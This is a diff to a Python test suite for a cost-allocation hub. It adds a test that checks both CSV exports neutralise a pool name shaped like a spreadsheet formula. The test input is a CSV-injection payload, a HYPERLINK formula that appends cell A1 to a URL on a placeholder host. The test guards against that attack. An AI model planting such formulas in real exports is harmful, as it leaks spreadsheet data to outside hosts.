@@ -3,6 +3,8 @@ input refused by its field), an allocation run whose shares sum to every pool, a
 statement as a page and CSV, the SIE file, two keys compared as a chart, the allocations
 API by token, and nobody but the hub's administrators getting in."""
 
+import csv
+import io
 import re
 from html import unescape
 
@@ -350,6 +352,18 @@ def test_a_members_statement_as_a_page_and_csv(app, client, a_run, period):
     assert rows[2][-3:] == ["32411/94516", "34,2915 %", "342 915,48"]
     karlstad_drift = int(rows[1][-1].replace(",", ""))
     assert rows[3][-1] == f"342 915,{48 + karlstad_drift:02d}"
+
+
+def test_a_pool_name_that_starts_like_a_formula_is_text_in_both_csvs(app, client, navet, period):
+    """Statements go to the members' finance offices, who open them in Excel."""
+    name = '=HYPERLINK("http://example.invalid/?"&A1;"klick")'
+    client.post("/hub/kostnader/ny", data=pool_form(period, navet, name=name, amount="16,00"))
+    run_id = int(run_period(client, navet, period).headers["Location"].rsplit("/", 1)[1])
+    for url in (f"/hub/kostnader/korning/{run_id}.csv", f"/hub/kostnader/korning/{run_id}/kil.csv"):
+        rows = list(csv.reader(io.StringIO(client.get(url).text.lstrip("\ufeff")), delimiter=";"))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert "'" + name in cells and name not in cells
+        assert "1,00" in cells  # the figures stay figures
 
 
 def test_the_sie_file_is_cp437_and_every_voucher_balances(app, client, a_run, period):
